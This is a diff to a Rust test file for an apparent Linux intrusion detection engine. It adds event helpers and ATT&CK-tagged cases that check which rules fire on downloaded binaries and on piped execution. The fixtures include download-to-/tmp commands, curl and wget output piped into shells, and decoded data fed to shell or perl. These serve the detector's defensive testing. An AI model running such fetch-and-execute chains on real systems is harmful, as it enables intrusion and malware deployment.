@@ -8,7 +8,7 @@ mod common;
 use std::sync::Arc;
 
 use common::*;
-use shrike_event::{Event, EventKind, Process, Signal, Timestamp};
+use shrike_event::{Event, EventKind, ImageLinks, Process, Signal, StdioPipe, Timestamp};
 use shrike_rules::{Policy, RateState};
 
 /// A setns into a mount namespace by `p` from pid namespace level `level`, the host's or not.
@@ -87,6 +87,33 @@ fn signal(sender: &str, sig: i32, target: &str) -> Event {
     });
     e.result = Some(0);
     e
+}
+
+/// `binary` run after a process that had connected out (`writer`, if the agent knows it) wrote
+/// it `age` seconds before.
+fn downloaded(binary: &str, writer: Option<&str>, age: u32) -> Event {
+    let mut pr = p(binary, &[binary]);
+    pr.links = Process::links_field(ImageLinks {
+        binary_downloaded: true,
+        binary_writer: writer.map(str::to_string),
+        binary_age: Some(age),
+        ..ImageLinks::default()
+    });
+    exec(&pr, &sh())
+}
+
+/// `binary args` exec'd with a pipe on `fd` whose other end is `peer`.
+fn piped(binary: &str, args: &[&str], fd: u8, peer: &str) -> Event {
+    let mut pr = p(binary, args);
+    pr.links = Process::links_field(ImageLinks {
+        stdio_pipes: vec![StdioPipe {
+            fd,
+            peer_binary: Some(peer.into()),
+            peer_exec_id: None,
+        }],
+        ..ImageLinks::default()
+    });
+    exec(&pr, &sh())
 }
 
 /// `n` copies of events made by `f(i)`.
@@ -227,6 +254,19 @@ fn cases() -> Vec<(&'static str, &'static str, Vec<Event>, &'static str)> {
         ("T1105", "wget -O into /tmp from an IP", vec![run("/usr/bin/wget", &["wget", "http://203.0.113.7/x", "-O", "/tmp/x"])], "SHR-EXEC-012"),
         ("T1105", "curl into /dev/shm", vec![run("/usr/bin/curl", &["curl", "-o", "/dev/shm/.k", "http://203.0.113.7:8080/k"])], "SHR-EXEC-012"),
         ("T1105", "curl by name into /tmp", vec![run("/usr/bin/curl", &["curl", "-fsSLo", "/tmp/rustup.sh", "https://sh.rustup.rs"])], ""),
+        ("T1105", "a perl downloader's hidden drop", vec![downloaded("/home/u/.local/share/.agent", Some("/usr/bin/perl"), 4)], "SHR-EXEC-015"),
+        ("T1105", "a drop in a hidden directory of a home", vec![downloaded("/home/u/.config/.x/agent", Some("/usr/bin/perl"), 4)], "SHR-EXEC-016"),
+        ("T1105", "a drop in /var/tmp whose writer the agent no longer knows", vec![downloaded("/var/tmp/kinsing", None, 90_000)], "SHR-EXEC-015"),
+        ("T1105", "a fetched tool run from /usr/local/bin", vec![downloaded("/usr/local/bin/netscan", Some("/usr/bin/curl"), 12)], "SHR-EXEC-016"),
+        ("T1105", "cargo install's binary run", vec![downloaded("/root/.cargo/bin/ripgrep", Some("/root/.cargo/bin/cargo"), 30)], ""),
+        ("T1105", "a download run a day later from /opt", vec![downloaded("/opt/tool/bin/tool", Some("/usr/bin/curl"), 86_000)], ""),
+        ("T1059.004", "a shell reading stdin from wget", vec![piped("/usr/bin/bash", &["bash"], 0, "/usr/bin/wget")], "SHR-EXEC-017"),
+        ("T1059.004", "curl whose stdout a shell reads", vec![piped("/usr/bin/curl", &["curl", "-s", "http://x/s"], 1, "/usr/bin/dash")], "SHR-EXEC-017"),
+        ("T1059.004", "curl output formatted by python", vec![piped("/usr/bin/python3.11", &["python3", "-m", "json.tool"], 0, "/usr/bin/curl")], ""),
+        ("T1059.004", "a shell -c given data by curl", vec![piped("/usr/bin/dash", &["sh", "-c", "cat > /tmp/k.asc"], 0, "/usr/bin/curl")], ""),
+        ("T1140", "xxd -r into a shell", vec![piped("/usr/bin/dash", &["sh", "-s"], 0, "/usr/bin/xxd")], "SHR-EXEC-017"),
+        ("T1140", "a local script fed to sh by cat", vec![piped("/usr/bin/dash", &["sh"], 0, "/usr/bin/cat")], ""),
+        ("T1059", "base64 output read by perl", vec![piped("/usr/bin/perl", &["perl"], 0, "/usr/bin/base64")], "SHR-EXEC-017"),
         ("T1136.001", "adduser (perl) creating a user", vec![{
             let mut a = p("/usr/bin/perl", &["/usr/sbin/adduser", "bob"]);
             a.script = Some("/usr/sbin/adduser".into());
